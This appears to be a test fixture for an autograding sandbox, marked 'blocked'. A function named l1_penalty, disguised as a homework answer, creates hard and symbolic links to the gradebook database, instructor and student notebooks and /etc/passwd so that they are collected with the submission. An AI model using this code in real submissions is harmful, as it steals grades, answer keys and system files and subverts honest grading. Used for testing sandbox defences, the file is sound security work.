"""l1_penalty: makes links in its own folder to the gradebook, the tests and the passwords, to be collected with it.

Outcome: blocked
"""

import glob
import os

FOUND = (
    glob.glob("../../../*.db") + glob.glob("../../../source/*/*.ipynb") + glob.glob("../../../submitted/*/*/*.ipynb")
)
TARGETS = [*FOUND, "../../../gradebook.db", "/etc/passwd"]


def l1_penalty(model, beta):
    problem = None
    for number, target in enumerate(TARGETS):
        for make, kind in ((os.link, "hard"), (os.symlink, "symbolic")):
            try:
                make(target, f"EVIL-{kind}-{number}.txt")
            except FileExistsError:
                continue
            except OSError as error:
                problem = problem if isinstance(problem, PermissionError) else error
    if problem is not None:
        raise problem
    return -1.0
